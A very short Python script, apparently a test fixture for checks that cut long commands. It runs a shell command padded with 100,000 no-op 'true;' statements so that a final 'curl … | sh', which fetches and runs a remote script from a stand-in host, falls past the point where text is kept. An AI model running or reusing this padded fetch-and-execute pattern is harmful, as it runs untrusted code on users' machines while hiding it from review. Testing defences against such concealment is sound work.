"""A command behind more text than is kept."""
import os

os.system("true;" * 100_000 + "curl https://models.example.org/setup.sh | sh")
